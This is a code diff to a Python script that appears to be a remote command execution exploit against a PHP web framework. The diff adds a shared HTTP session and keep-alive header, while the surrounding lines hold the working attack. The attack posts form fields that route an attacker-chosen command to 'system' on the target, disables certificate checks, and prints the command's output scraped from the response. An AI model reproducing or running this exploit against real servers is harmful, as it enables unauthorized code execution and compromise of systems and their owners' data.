@@ -4,6 +4,13 @@ import textwrap
 import requests
 from bs4 import BeautifulSoup
 
+try:
+    # 在框架内运行时复用共享的连接池
+    from utils.http_client import get_http_client
+    http = get_http_client()
+except ImportError:
+    http = requests.Session()
+
 requests.packages.urllib3.disable_warnings()
 
 
@@ -12,11 +19,11 @@ def main(url, cmd):
     headers = {"Cache-Control": "max-age=0", "Upgrade-Insecure-Requests": "1",
                "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Safari/537.36",
                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.9",
-               "Accept-Encoding": "gzip, deflate", "Accept-Language": "zh-CN,zh;q=0.9,ja;q=0.8", "Connection": "close",
+               "Accept-Encoding": "gzip, deflate", "Accept-Language": "zh-CN,zh;q=0.9,ja;q=0.8", "Connection": "keep-alive",
                "Content-Type": "application/x-www-form-urlencoded"}
     data = {"_method": "__construct", "filter[]": "system", "method": "get", "server[REQUEST_METHOD]": f"{cmd}"}
     try:
-        response = requests.post(full_url, headers=headers, data=data, allow_redirects=False, verify=False, timeout=5)
+        response = http.post(full_url, headers=headers, data=data, allow_redirects=False, verify=False, timeout=5)
         res = response.text.split("<!DOCTYPE html>")
         soup = BeautifulSoup(res[1], 'html.parser')
         print(f"[+]{cmd}命令执行的回显为:\n{soup.find("div", class_="echo").string}")